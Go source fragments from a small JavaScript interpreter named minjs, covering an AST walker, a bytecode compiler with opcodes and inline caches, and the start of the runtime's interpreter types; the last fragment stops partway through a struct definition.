	case *FuncLit:
		add(x.Body...)
	case *UnaryExpr:
		add(x.X)
	case *PostfixExpr:
		add(x.X)
	case *BinaryExpr:
		add(x.L, x.R)
	case *LogicalExpr:
		add(x.L, x.R)
	case *CondExpr:
		add(x.Cond, x.Then, x.Else)
	case *AssignExpr:
		add(x.Target, x.Val)
	case *MemberExpr:
		add(x.Obj, x.Index)
	case *CallExpr:
		add(x.Fn)
		add(x.Args...)
	case *NewExpr:
		add(x.Ctor)
		add(x.Args...)
	}
	return out
}

// Walk calls f on n and, when f returns true, recurses into n's children in
// source order. A nil n is a no-op.
func Walk(n Node, f func(Node) bool) {
	if n == nil {
		return
	}
	if !f(n) {
		return
	}
	for _, c := range Children(n) {
		Walk(c, f)
	}
}
