package minjs

// This file lowers minjs ASTs to the flat bytecode executed by vm.go. The
// contract with the tree-walker in eval.go is strict observational parity:
// identical values, identical error strings, identical step and alloc
// counts, identical PropAccessHook sequences and identical stack traces.
// Each opcode below therefore maps to a specific slice of the tree-walker's
// behaviour, including its quirks (switch bodies never hoist function
// declarations, `delete x` does not evaluate x, and so on). If you change
// eval.go, change the corresponding opcode handler — the differential tests
// in vm_test.go will hold you to it.

// Op is a bytecode opcode.
type Op uint8

const (
	opStmt          Op = iota // statement prologue: step, frame.Line = a
	opStep                    // expression prologue: step only
	opConst                   // push consts[a] (no step)
	opConstStep               // step + push consts[a] (fused literal)
	opUndefined               // push undefined (no step)
	opLoadName                // step + lookupIdent(atoms[a]); push; b = inline-cache site
	opThis                    // step + push curThis (or global)
	opArray                   // step was separate; pop a elems, push new array
	opObject                  // pop b values, push object with shape shapes[a]
	opClosure                 // push closure over fns[a]
	opDeclare                 // pop v, declare atoms[a] in current scope
	opPop                     // pop and discard
	opStoreLast               // pop into the toplevel completion register
	opClearLast               // completion register = undefined
	opJump                    // pc = a
	opJumpIfFalse             // pop; if falsy pc = a
	opJumpIfTrue              // pop; if truthy pc = a
	opAndJump                 // if peek falsy: keep, pc = a; else pop
	opOrJump                  // if peek truthy: keep, pc = a; else pop
	opNullishJump             // if peek non-nullish: keep, pc = a; else pop
	opBinary                  // pop r, l; push binop(a, l, r)
	opUnary                   // replace top with unary op a
	opTypeofName              // step + typeof identifier atoms[a] (swallows lookup errors)
	opTypeofVal               // replace top with typeof string
	opPreIncDec               // replace top number n with n+a
	opPostIncDec              // replace top with Number(n); push Number(n+a)
	opGetMember               // pop obj; push obj.atoms[a]; b = inline-cache site
	opGetMemberC              // pop idx, obj; push obj[idx]
	opSetMember               // pop obj (val stays at top); obj.atoms[a] = val
	opSetMemberC              // pop idx, obj (val stays); obj[idx] = val
	opDeleteMember            // pop obj; push delete obj.atoms[a]
	opDeleteMemberC           // pop idx, obj; push delete obj[idx]
	opStoreName               // peek val; assign to atoms[a] (assignTo Ident logic)
	opMethod                  // pop obj; push obj, obj.atoms[a] (checked callable); b = IC site
	opMethodC                 // pop idx, obj; push obj, obj[idx] (checked callable)
	opCheckFn                 // top must be callable else TypeError (a = name atom or -1)
	opCheckCtor               // top must be callable else "not a constructor"
	opCall                    // pop a args (+fn, +this when b==1); push result
	opNew                     // pop a args + ctor; push constructed
	opReturn                  // pop; return value
	opThrow                   // pop; throw value
	opSignal                  // break (a==1) / continue (a==2) across an exec boundary
	opPushScope               // enter block scope (a = size hint, b = poolable)
	opPopScope                // leave block scope
	opUnwind                  // leave a scopes (break/continue jumping out of blocks)
	opTry                     // run tries[b] (try/catch/finally)
	opForIn                   // pop obj; run forins[b] (for-in / for-of)
	opSwitch                  // pop tag; run switches[b]
	opInvalidAssign           // throw ReferenceError "invalid assignment target"
)

// inst is one instruction. Jumps are absolute pc values in a.
type inst struct {
	op   Op
	a, b int32
}

// tryAux describes a try/catch/finally region. Ranges are [lo,hi) slices of
// the instruction stream executed by recursive exec calls; lo == -1 means
// the clause is absent. breakPC/contPC point at trampolines that route
// break/continue signals escaping the region to the enclosing loop at the
// try's own exec level, or -1 to propagate further out.
type tryAux struct {
	body, catch, finally [2]int32
	catchAtom            int32 // -1: unnamed catch
	catchSize            int32
	catchPool            bool
	breakPC, contPC      int32
}

// forInAux describes a for-in/for-of loop body region.
type forInAux struct {
	body     [2]int32
	of       bool
	hasDecl  bool
	nameAtom int32
	size     int32
	pool     bool
}

// switchAux describes a switch region: test expression ranges, case body
// ranges and the default body range, in source order.
type switchAux struct {
	tests  [][2]int32
	bodies [][2]int32
	def    [2]int32
	hasDef bool
	defPos int32
	elide  bool // no case declares into the switch scope: skip creating it
	pool   bool
	contPC int32
}

// icEntry is an inline-cache entry for one property-load site. proto == nil
// caches an own property of recv; otherwise the property lives on recv's
// direct prototype. Validation compares the receiver identity and the
// version counters captured at fill time; any structural mutation on either
// object bumps its counter and kills the entry. Entries live in per-Interp
// tables (Interp.icsFor), never on the shared Code: Codes are cached across
// visits and shards, and realm-local object pointers stored there would both
// race and pin dead realms' object graphs for the cache's lifetime.
type icEntry struct {
	recv     *Object
	proto    *Object
	prop     *Property
	recvVer  uint32
	protoVer uint32
}

// Code is the compiled form of a program body or function body. It is
// immutable after Compile returns, so one Code may execute concurrently on
// any number of interpreters.
type Code struct {
	ins      []inst
	consts   []Value
	atoms    []string // shared across all Codes of one program
	fns      []*FuncLit
	shapes   [][]string // object-literal key lists
	tries    []tryAux
	forins   []forInAux
	switches []switchAux
	numICs   int32
	maxStack int32
	// call-scope shape for function bodies
	scopeSize int32
	poolScope bool
}

// bailout aborts compilation from deep inside the emitter when an AST shape
// the compiler does not understand appears; Compile recovers it and leaves
// the program uncompiled (the tree-walker remains correct for everything).
type bailout struct{ n Node }

// Compile lowers prog and every function literal it contains to bytecode.
// It is idempotent, must not race with execution of the same Program, and
// never fails: unsupported ASTs simply stay tree-walked.
func Compile(prog *Program) *Program {
	if prog.compiled != nil {
		return prog
	}
	pc := &progCompiler{atoms: newAtomTable()}
	defer func() {
		if r := recover(); r != nil {
			if _, ok := r.(bailout); ok {
				// leave every Code unset: partial compilation of nested
				// literals is harmless (their codes are discarded with the
				// program flag unset) — but wipe them so the mixed state
				// cannot dispatch half-compiled.
				for _, lit := range pc.lits {
					lit.compiled = nil
				}
				return
			}
			panic(r)
		}
		prog.compiled = pc.finish()
	}()
	c := &Code{}
	cp := &compiler{p: pc, c: c}
	cp.hoistOps(prog.Body)
	for _, st := range prog.Body {
		cp.stmt(st, true)
	}
	pc.codes = append(pc.codes, c)
	pc.top = c
	return prog
}

// MustCompile is Compile; the name documents call sites that rely on the
// program actually being compiled (Compile never errors, it only bails out
// to tree-walking on unsupported input).
func MustCompile(prog *Program) *Program { return Compile(prog) }

// progCompiler holds per-program compilation state shared by all function
// bodies: the interned atom table and the list of produced Codes.
type progCompiler struct {
	atoms *atomTable
	codes []*Code
	lits  []*FuncLit
	top   *Code
}

func (p *progCompiler) finish() *Code {
	for _, c := range p.codes {
		c.atoms = p.atoms.atoms
	}
	return p.top
}

// compileFn lowers one function literal's body.
func (p *progCompiler) compileFn(lit *FuncLit) {
	if lit.compiled != nil {
		return
	}
	c := &Code{
		scopeSize: int32(len(lit.Params)) + 2,
		poolScope: !anyHasFunc(lit.Body),
	}
	cp := &compiler{p: p, c: c}
	cp.hoistOps(lit.Body)
	for _, st := range lit.Body {
		cp.stmt(st, false)
	}
	p.codes = append(p.codes, c)
	p.lits = append(p.lits, lit)
	lit.compiled = c
}

// loopCtx tracks the innermost enclosing loop at the current exec level.
// break/continue sites append jump instructions to the patch lists; the loop
// emitter resolves them once the exit and continue targets are known.
type loopCtx struct {
	breakPatches []int32
	contPatches  []int32
	targetD      int32 // scope depth at the jump landing sites
}

// compiler emits instructions for one Code.
type compiler struct {
	p      *progCompiler
	c      *Code
	depth  int32 // current value-stack depth
	scopeD int32 // current lexical scope depth within this Code
	loop   *loopCtx
	consts map[Value]int32
}

func (cp *compiler) emit(op Op, a, b int32) int32 {
	cp.c.ins = append(cp.c.ins, inst{op: op, a: a, b: b})
	return int32(len(cp.c.ins) - 1)
}

func (cp *compiler) here() int32 { return int32(len(cp.c.ins)) }

func (cp *compiler) patch(at, target int32) { cp.c.ins[at].a = target }

func (cp *compiler) push(n int32) {
	cp.depth += n
	if cp.depth > cp.c.maxStack {
		cp.c.maxStack = cp.depth
	}
}

func (cp *compiler) pop(n int32) { cp.depth -= n }

func (cp *compiler) atom(s string) int32 { return cp.p.atoms.intern(s) }

func (cp *compiler) konst(v Value) int32 {
	if cp.consts == nil {
		cp.consts = make(map[Value]int32, 8)
	}
	if i, ok := cp.consts[v]; ok {
		return i
	}
	i := int32(len(cp.c.consts))
	cp.c.consts = append(cp.c.consts, v)
	cp.consts[v] = i // NaN never matches itself: harmless duplicate consts
	return i
}

func (cp *compiler) icSite() int32 {
	cp.c.numICs++
	return cp.c.numICs - 1
}

func (cp *compiler) fnIndex(lit *FuncLit) int32 {
	cp.c.fns = append(cp.c.fns, lit)
	cp.p.compileFn(lit)
	return int32(len(cp.c.fns) - 1)
}

// hoistOps emits the function-declaration hoisting preamble mirroring
// Interp.hoist: one closure + declare per FuncDecl, in source order. Only
// program bodies, function bodies and scoped blocks hoist — switch case
// bodies deliberately do not (the tree-walker never hoists them, so a
// FuncDecl there is dead code; bug-compat demands we keep it that way).
func (cp *compiler) hoistOps(body []Node) {
	for _, st := range body {
		if fd, ok := st.(*FuncDecl); ok {
			cp.emit(opClosure, cp.fnIndex(fd.Fn), 0)
			cp.push(1)
			cp.emit(opDeclare, cp.atom(fd.Fn.Name), 0)
			cp.pop(1)
		}
	}
}

// ---- statement compilation ----

// stmt compiles one statement. wantLast is true only for program-toplevel
// statement positions, where the tree-walker tracks the completion value
// returned by RunProgram; everywhere else statement values are discarded.
func (cp *compiler) stmt(n Node, wantLast bool) {
	line := int32(n.nodeLine())
	switch st := n.(type) {
	case *VarDecl:
		cp.emit(opStmt, line, 0)
		for i, name := range st.Names {
			if st.Inits[i] != nil {
				cp.expr(st.Inits[i])
			} else {
				cp.emit(opUndefined, 0, 0)
				cp.push(1)
			}
			cp.emit(opDeclare, cp.atom(name), 0)
			cp.pop(1)
		}
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *ExprStmt:
		cp.emit(opStmt, line, 0)
		cp.expr(st.X)
		if wantLast {
			cp.emit(opStoreLast, 0, 0)
		} else {
			cp.emit(opPop, 0, 0)
		}
		cp.pop(1)

	case *FuncDecl:
		cp.emit(opStmt, line, 0) // body already hoisted; the statement still steps
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *BlockStmt:
		cp.emit(opStmt, line, 0)
		if st.NeedsScope {
			size := directDeclCount(st.Body)
			pool := boolToI32(!anyHasFunc(st.Body))
			cp.emit(opPushScope, size, pool)
			cp.scopeD++
			cp.hoistOps(st.Body)
			for _, s := range st.Body {
				cp.stmt(s, wantLast)
			}
			cp.emit(opPopScope, 0, 0)
			cp.scopeD--
		} else {
			for _, s := range st.Body {
				cp.stmt(s, wantLast)
			}
		}
		if wantLast && len(st.Body) == 0 {
			cp.emit(opClearLast, 0, 0)
		}

	case *IfStmt:
		cp.emit(opStmt, line, 0)
		cp.expr(st.Cond)
		jf := cp.emit(opJumpIfFalse, -1, 0)
		cp.pop(1)
		cp.stmt(st.Then, wantLast)
		switch {
		case st.Else != nil:
			j2 := cp.emit(opJump, -1, 0)
			cp.patch(jf, cp.here())
			cp.stmt(st.Else, wantLast)
			cp.patch(j2, cp.here())
		case wantLast:
			// missing else yields undefined as the statement value
			j2 := cp.emit(opJump, -1, 0)
			cp.patch(jf, cp.here())
			cp.emit(opClearLast, 0, 0)
			cp.patch(j2, cp.here())
		default:
			cp.patch(jf, cp.here())
		}

	case *WhileStmt:
		cp.emit(opStmt, line, 0)
		saved := cp.loop
		l := &loopCtx{targetD: cp.scopeD}
		cp.loop = l
		start := cp.here()
		cp.expr(st.Cond)
		jf := cp.emit(opJumpIfFalse, -1, 0)
		cp.pop(1)
		cp.stmt(st.Body, false)
		cp.emit(opJump, start, 0)
		exit := cp.here()
		cp.patch(jf, exit)
		cp.resolveLoop(l, exit, start)
		cp.loop = saved
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *DoWhileStmt:
		cp.emit(opStmt, line, 0)
		saved := cp.loop
		l := &loopCtx{targetD: cp.scopeD}
		cp.loop = l
		start := cp.here()
		cp.stmt(st.Body, false)
		cont := cp.here()
		cp.expr(st.Cond)
		cp.emit(opJumpIfTrue, start, 0)
		cp.pop(1)
		exit := cp.here()
		cp.resolveLoop(l, exit, cont)
		cp.loop = saved
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *ForStmt:
		cp.emit(opStmt, line, 0)
		// The tree-walker always allocates the for scope; the VM elides it
		// when nothing can ever declare into it (an empty scope is invisible
		// to lookups, so this is unobservable).
		needScope := (st.Init != nil && declaresInto(st.Init)) || declaresInto(st.Body)
		if needScope {
			pool := boolToI32(!hasFuncNode(st.Init) && !hasFuncNode(st.Cond) &&
				!hasFuncNode(st.Post) && !hasFuncNode(st.Body))
			cp.emit(opPushScope, 4, pool)
			cp.scopeD++
		}
		if st.Init != nil {
			cp.stmt(st.Init, false)
		}
		saved := cp.loop
		l := &loopCtx{targetD: cp.scopeD}
		cp.loop = l
		start := cp.here()
		var jf int32 = -1
		if st.Cond != nil {
			cp.expr(st.Cond)
			jf = cp.emit(opJumpIfFalse, -1, 0)
			cp.pop(1)
		}
		cp.stmt(st.Body, false)
		post := cp.here()
		if st.Post != nil {
			cp.expr(st.Post)
			cp.emit(opPop, 0, 0)
			cp.pop(1)
		}
		cp.emit(opJump, start, 0)
		exit := cp.here()
		if jf >= 0 {
			cp.patch(jf, exit)
		}
		cp.resolveLoop(l, exit, post)
		cp.loop = saved
		if needScope {
			cp.emit(opPopScope, 0, 0)
			cp.scopeD--
		}
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *ForInStmt:
		cp.emit(opStmt, line, 0)
		cp.expr(st.Obj)
		aux := forInAux{
			of:       st.Of,
			hasDecl:  st.Decl != "",
			nameAtom: cp.atom(st.Name),
			size:     1 + directDeclCount([]Node{st.Body}),
			pool:     !hasFuncNode(st.Body),
		}
		auxIdx := int32(len(cp.c.forins))
		cp.c.forins = append(cp.c.forins, aux)
		cp.emit(opForIn, 0, auxIdx)
		cp.pop(1)
		jOver := cp.emit(opJump, -1, 0)
		savedLoop := cp.loop
		cp.loop = nil // body is an exec boundary: break/continue become signals
		lo := cp.here()
		cp.stmt(st.Body, false)
		cp.c.forins[auxIdx].body = [2]int32{lo, cp.here()}
		cp.loop = savedLoop
		cp.patch(jOver, cp.here())
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *ReturnStmt:
		cp.emit(opStmt, line, 0)
		if st.X != nil {
			cp.expr(st.X)
		} else {
			cp.emit(opUndefined, 0, 0)
			cp.push(1)
		}
		cp.emit(opReturn, 0, 0)
		cp.pop(1)

	case *BreakStmt:
		cp.emit(opStmt, line, 0)
		if cp.loop != nil {
			if k := cp.scopeD - cp.loop.targetD; k > 0 {
				cp.emit(opUnwind, k, 0)
			}
			cp.loop.breakPatches = append(cp.loop.breakPatches, cp.emit(opJump, -1, 0))
		} else {
			cp.emit(opSignal, 1, 0)
		}

	case *ContinueStmt:
		cp.emit(opStmt, line, 0)
		if cp.loop != nil {
			if k := cp.scopeD - cp.loop.targetD; k > 0 {
				cp.emit(opUnwind, k, 0)
			}
			cp.loop.contPatches = append(cp.loop.contPatches, cp.emit(opJump, -1, 0))
		} else {
			cp.emit(opSignal, 2, 0)
		}

	case *ThrowStmt:
		cp.emit(opStmt, line, 0)
		cp.expr(st.X)
		cp.emit(opThrow, 0, 0)
		cp.pop(1)

	case *TryStmt:
		cp.emit(opStmt, line, 0)
		aux := tryAux{
			body:      [2]int32{-1, -1},
			catch:     [2]int32{-1, -1},
			finally:   [2]int32{-1, -1},
			catchAtom: -1,
			breakPC:   -1,
			contPC:    -1,
		}
		if st.Catch != nil {
			if st.CatchName != "" {
				aux.catchAtom = cp.atom(st.CatchName)
			}
			aux.catchSize = 1 + directDeclCount([]Node{st.Catch})
			aux.catchPool = !hasFuncNode(st.Catch)
		}
		auxIdx := int32(len(cp.c.tries))
		cp.c.tries = append(cp.c.tries, aux)
		cp.emit(opTry, 0, auxIdx)
		jOver := cp.emit(opJump, -1, 0)
		if cp.loop != nil {
			// trampolines: break/continue signals escaping the try resume
			// here, unwind to the loop's depth, then jump like a local
			// break/continue would.
			aux.breakPC = cp.here()
			if k := cp.scopeD - cp.loop.targetD; k > 0 {
				cp.emit(opUnwind, k, 0)
			}
			cp.loop.breakPatches = append(cp.loop.breakPatches, cp.emit(opJump, -1, 0))
			aux.contPC = cp.here()
			if k := cp.scopeD - cp.loop.targetD; k > 0 {
				cp.emit(opUnwind, k, 0)
			}
			cp.loop.contPatches = append(cp.loop.contPatches, cp.emit(opJump, -1, 0))
		}
		savedLoop := cp.loop
		cp.loop = nil
		lo := cp.here()
		cp.stmt(st.Body, false)
		aux.body = [2]int32{lo, cp.here()}
		if st.Catch != nil {
			lo = cp.here()
			cp.stmt(st.Catch, false)
			aux.catch = [2]int32{lo, cp.here()}
		}
		if st.Finally != nil {
			lo = cp.here()
			cp.stmt(st.Finally, false)
			aux.finally = [2]int32{lo, cp.here()}
		}
		cp.loop = savedLoop
		cp.c.tries[auxIdx] = aux
		cp.patch(jOver, cp.here())
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	case *SwitchStmt:
		cp.emit(opStmt, line, 0)
		cp.expr(st.Tag)
		elide := true
		for _, c := range st.Cases {
			for _, s := range c.Body {
				if declaresInto(s) {
					elide = false
				}
			}
		}
		for _, s := range st.Default {
			if declaresInto(s) {
				elide = false
			}
		}
		pool := true
		for _, c := range st.Cases {
			if hasFuncNode(c.Test) || anyHasFunc(c.Body) {
				pool = false
			}
		}
		if anyHasFunc(st.Default) {
			pool = false
		}
		aux := switchAux{
			def:    [2]int32{-1, -1},
			hasDef: st.HasDef,
			defPos: int32(st.DefPos),
			elide:  elide,
			pool:   pool,
			contPC: -1,
		}
		auxIdx := int32(len(cp.c.switches))
		cp.c.switches = append(cp.c.switches, aux)
		cp.emit(opSwitch, 0, auxIdx)
		cp.pop(1)
		jOver := cp.emit(opJump, -1, 0)
		if cp.loop != nil {
			aux.contPC = cp.here()
			if k := cp.scopeD - cp.loop.targetD; k > 0 {
				cp.emit(opUnwind, k, 0)
			}
			cp.loop.contPatches = append(cp.loop.contPatches, cp.emit(opJump, -1, 0))
		}
		savedLoop := cp.loop
		cp.loop = nil
		for _, c := range st.Cases {
			lo := cp.here()
			cp.expr(c.Test)
			cp.pop(1) // the handler reads the test value off the stack
			aux.tests = append(aux.tests, [2]int32{lo, cp.here()})
			lo = cp.here()
			for _, s := range c.Body {
				cp.stmt(s, false)
			}
			aux.bodies = append(aux.bodies, [2]int32{lo, cp.here()})
		}
		if st.HasDef {
			lo := cp.here()
			for _, s := range st.Default {
				cp.stmt(s, false)
			}
			aux.def = [2]int32{lo, cp.here()}
		}
		cp.loop = savedLoop
		cp.c.switches[auxIdx] = aux
		cp.patch(jOver, cp.here())
		if wantLast {
			cp.emit(opClearLast, 0, 0)
		}

	default:
		panic(bailout{n})
	}
}

// resolveLoop patches a loop's pending break/continue jumps.
func (cp *compiler) resolveLoop(l *loopCtx, exit, cont int32) {
	for _, p := range l.breakPatches {
		cp.patch(p, exit)
	}
	for _, p := range l.contPatches {
		cp.patch(p, cont)
	}
}

// ---- expression compilation ----

// expr compiles one expression, leaving exactly one value on the stack.
func (cp *compiler) expr(n Node) {
	switch x := n.(type) {
	case *Literal:
		cp.emit(opConstStep, cp.konst(x.Val), 0)
		cp.push(1)

	case *Ident:
		cp.emit(opLoadName, cp.atom(x.Name), cp.icSite())
		cp.push(1)

	case *ThisExpr:
		cp.emit(opThis, 0, 0)
		cp.push(1)

	case *ArrayLit:
		cp.emit(opStep, 0, 0)
		for _, e := range x.Elems {
			cp.expr(e)
		}
		n := int32(len(x.Elems))
		cp.emit(opArray, n, 0)
		cp.pop(n)
		cp.push(1)

	case *ObjectLit:
		cp.emit(opStep, 0, 0)
		for _, v := range x.Vals {
			cp.expr(v)
		}
		shapeIdx := int32(len(cp.c.shapes))
		cp.c.shapes = append(cp.c.shapes, x.Keys)
		n := int32(len(x.Vals))
		cp.emit(opObject, shapeIdx, n)
		cp.pop(n)
		cp.push(1)

	case *FuncLit:
		cp.emit(opStep, 0, 0)
		cp.emit(opClosure, cp.fnIndex(x), 0)
		cp.push(1)

	case *UnaryExpr:
		cp.unary(x)

	case *PostfixExpr:
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		delta := int32(1)
		if x.Op == "--" {
			delta = -1
		}
		cp.emit(opPostIncDec, delta, 0)
		cp.push(1) // [old-as-number, new]
		cp.store(x.X)
		cp.emit(opPop, 0, 0) // drop the stored value; old number is the result
		cp.pop(1)

	case *BinaryExpr:
		cp.emit(opStep, 0, 0)
		cp.expr(x.L)
		cp.expr(x.R)
		code, ok := binOpCodes[x.Op]
		if !ok {
			panic(bailout{n})
		}
		cp.emit(opBinary, code, 0)
		cp.pop(1)

	case *LogicalExpr:
		cp.emit(opStep, 0, 0)
		cp.expr(x.L)
		var jop Op
		switch x.Op {
		case "&&":
			jop = opAndJump
		case "||":
			jop = opOrJump
		case "??":
			jop = opNullishJump
		default:
			panic(bailout{n})
		}
		j := cp.emit(jop, -1, 0)
		cp.pop(1)
		cp.expr(x.R)
		cp.patch(j, cp.here())

	case *CondExpr:
		cp.emit(opStep, 0, 0)
		cp.expr(x.Cond)
		jf := cp.emit(opJumpIfFalse, -1, 0)
		cp.pop(1)
		d0 := cp.depth
		cp.expr(x.Then)
		j2 := cp.emit(opJump, -1, 0)
		cp.depth = d0
		cp.patch(jf, cp.here())
		cp.expr(x.Else)
		cp.patch(j2, cp.here())

	case *AssignExpr:
		cp.emit(opStep, 0, 0)
		if x.Op == "=" {
			cp.expr(x.Val)
		} else {
			cp.expr(x.Target) // compound assign re-reads the target with steps
			cp.expr(x.Val)
			code, ok := binOpCodes[x.Op[:len(x.Op)-1]]
			if !ok {
				panic(bailout{n})
			}
			cp.emit(opBinary, code, 0)
			cp.pop(1)
		}
		cp.store(x.Target)

	case *MemberExpr:
		cp.emit(opStep, 0, 0)
		cp.expr(x.Obj)
		if x.Computed {
			cp.expr(x.Index)
			cp.emit(opGetMemberC, 0, 0)
			cp.pop(1)
		} else {
			cp.emit(opGetMember, cp.atom(x.Name), cp.icSite())
		}

	case *CallExpr:
		cp.emit(opStep, 0, 0)
		if m, ok := x.Fn.(*MemberExpr); ok {
			cp.expr(m.Obj)
			if m.Computed {
				cp.expr(m.Index)
				cp.emit(opMethodC, 0, 0)
				cp.pop(1) // [this, fn]
				cp.push(1)
			} else {
				cp.emit(opMethod, cp.atom(m.Name), cp.icSite())
				cp.push(1)
			}
			for _, a := range x.Args {
				cp.expr(a)
			}
			n := int32(len(x.Args))
			cp.emit(opCall, n, 1)
			cp.pop(n + 2)
			cp.push(1)
		} else {
			cp.expr(x.Fn)
			nameAtom := int32(-1)
			if id, ok := x.Fn.(*Ident); ok {
				nameAtom = cp.atom(id.Name)
			}
			cp.emit(opCheckFn, nameAtom, 0)
			for _, a := range x.Args {
				cp.expr(a)
			}
			n := int32(len(x.Args))
			cp.emit(opCall, n, 0)
			cp.pop(n + 1)
			cp.push(1)
		}

	case *NewExpr:
		cp.emit(opStep, 0, 0)
		cp.expr(x.Ctor)
		cp.emit(opCheckCtor, 0, 0)
		for _, a := range x.Args {
			cp.expr(a)
		}
		n := int32(len(x.Args))
		cp.emit(opNew, n, 0)
		cp.pop(n + 1)
		cp.push(1)

	default:
		panic(bailout{n})
	}
}

// unary op codes for opUnary.
const (
	unNot = iota
	unNeg
	unPlus
	unBitNot
)

func (cp *compiler) unary(x *UnaryExpr) {
	switch x.Op {
	case "typeof":
		if id, ok := x.X.(*Ident); ok {
			// fused: one step for the unary node, lookup errors swallowed
			cp.emit(opTypeofName, cp.atom(id.Name), 0)
			cp.push(1)
			return
		}
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		cp.emit(opTypeofVal, 0, 0)

	case "delete":
		cp.emit(opStep, 0, 0)
		m, ok := x.X.(*MemberExpr)
		if !ok {
			// `delete x` yields true without evaluating x (tree-walker quirk)
			cp.emit(opConst, cp.konst(Boolean(true)), 0)
			cp.push(1)
			return
		}
		cp.expr(m.Obj)
		if m.Computed {
			cp.expr(m.Index)
			cp.emit(opDeleteMemberC, 0, 0)
			cp.pop(1)
		} else {
			cp.emit(opDeleteMember, cp.atom(m.Name), 0)
		}

	case "++", "--":
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		delta := int32(1)
		if x.Op == "--" {
			delta = -1
		}
		cp.emit(opPreIncDec, delta, 0)
		cp.store(x.X)

	case "!":
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		cp.emit(opUnary, unNot, 0)
	case "-":
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		cp.emit(opUnary, unNeg, 0)
	case "+":
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		cp.emit(opUnary, unPlus, 0)
	case "~":
		cp.emit(opStep, 0, 0)
		cp.expr(x.X)
		cp.emit(opUnary, unBitNot, 0)
	default:
		panic(bailout{x})
	}
}

// store emits the assignTo logic for the value at the top of the stack,
// leaving that value in place as the expression result.
func (cp *compiler) store(target Node) {
	switch t := target.(type) {
	case *Ident:
		cp.emit(opStoreName, cp.atom(t.Name), 0)
	case *MemberExpr:
		cp.expr(t.Obj)
		if t.Computed {
			cp.expr(t.Index)
			cp.emit(opSetMemberC, 0, 0)
			cp.pop(2)
		} else {
			cp.emit(opSetMember, cp.atom(t.Name), 0)
			cp.pop(1)
		}
	default:
		cp.emit(opInvalidAssign, 0, 0)
	}
}

// ---- static analyses ----

// declaresInto reports whether executing n can declare a binding into the
// scope n runs in: VarDecls directly, or transitively through constructs
// that execute children in the same scope (unscoped blocks, if branches,
// loop bodies that share the scope, try bodies and finally blocks). FuncDecl
// is false — hoisting handles it separately, and switch bodies never hoist.
func declaresInto(n Node) bool {
	switch x := n.(type) {
	case nil:
		return false
	case *VarDecl:
		return true
	case *BlockStmt:
		if x.NeedsScope {
			return false // declares land in the block's own scope
		}
		for _, s := range x.Body {
			if declaresInto(s) {
				return true
			}
		}
		return false
	case *IfStmt:
		return declaresInto(x.Then) || declaresInto(x.Else)
	case *WhileStmt:
		return declaresInto(x.Body)
	case *DoWhileStmt:
		return declaresInto(x.Body)
	case *TryStmt:
		if declaresInto(x.Body) {
			return true
		}
		return x.Finally != nil && declaresInto(x.Finally)
	}
	// ForStmt/ForInStmt/SwitchStmt declare into their own inner scopes;
	// expressions and the rest declare nothing.
	return false
}

// directDeclCount estimates how many bindings a statement list declares into
// its scope — a capacity hint for pooled scopes, not a bound.
func directDeclCount(body []Node) int32 {
	var n int32
	for _, s := range body {
		switch x := s.(type) {
		case *VarDecl:
			n += int32(len(x.Names))
		case *FuncDecl:
			n++
		}
	}
	if n == 0 {
		n = 2
	}
	return n
}

// hasFuncNode reports whether the subtree contains any function literal or
// declaration. Scopes governing such subtrees may be captured by a closure
// and must not be pooled. The check counts the FuncLit node itself and does
// not need to descend into its body (walk.Children would, so recursion stops
// at the match).
func hasFuncNode(n Node) bool {
	if n == nil {
		return false
	}
	switch n.(type) {
	case *FuncLit, *FuncDecl:
		return true
	}
	for _, c := range Children(n) {
		if hasFuncNode(c) {
			return true
		}
	}
	return false
}

func anyHasFunc(body []Node) bool {
	for _, s := range body {
		if hasFuncNode(s) {
			return true
		}
	}
	return false
}

func boolToI32(b bool) int32 {
	if b {
		return 1
	}
	return 0
}
