package minjs

import (
	"errors"
	"fmt"
	"math/rand"
	"strconv"
)

// Frame is one entry of the JS call stack, used for Error stack traces.
type Frame struct {
	FnName string
	Script string
	Line   int
}

func (f Frame) String() string {
	name := f.FnName
	if name == "" {
		name = "<anonymous>"
	}
	// hand-rolled concat: stacks are captured on every instrumented access,
	// and fmt.Sprintf was measurably hot there
	var b []byte
	b = append(b, name...)
	b = append(b, '@')
	b = append(b, f.Script...)
	b = append(b, ':')
	b = strconv.AppendInt(b, int64(f.Line), 10)
	return string(b)
}

// appendTo writes the frame's rendering plus a newline into b without the
// intermediate string; keep in sync with String.
func (f *Frame) appendTo(b []byte) []byte {
	name := f.FnName
	if name == "" {
		name = "<anonymous>"
	}
	b = append(b, name...)
	b = append(b, '@')
	b = append(b, f.Script...)
	b = append(b, ':')
	b = strconv.AppendInt(b, int64(f.Line), 10)
	return append(b, '\n')
}

// Throw carries a thrown JS value as a Go error.
type Throw struct {
	Value Value
	Stack string
}

func (t *Throw) Error() string { return "uncaught " + t.Value.ToString() }

// InterruptError aborts script execution from the host side (step limit,
// deadline). It is not catchable by JS try/catch.
type InterruptError struct{ Reason string }

func (e *InterruptError) Error() string { return "script interrupted: " + e.Reason }

// control-flow signals (never escape RunProgram/CallFunction).
var errBreak = errors.New("minjs: break")
var errContinue = errors.New("minjs: continue")

type returnSignal struct{ val Value }

func (*returnSignal) Error() string { return "minjs: return" }

// Protos holds the intrinsic prototype objects of a realm.
type Protos struct {
	Object   *Object
	Function *Object
	Array    *Object
	Error    *Object
	String   *Object
	Number   *Object
	Boolean  *Object
}

// Interp is an interpreter instance bound to one global object (one realm).
// Interpreters are not safe for concurrent use.
type Interp struct {
	Global *Object
	Protos Protos

	// StepLimit bounds the number of AST nodes evaluated per RunProgram /
	// host CallFunction entry; 0 means the default of 5 million.
	StepLimit int64

	// PropAccessHook, when set, observes every successful property read on
	// an object (including prototype-chain hits). Used by tests as a ground
	// -truth oracle of script behaviour.
	PropAccessHook func(owner *Object, key string)

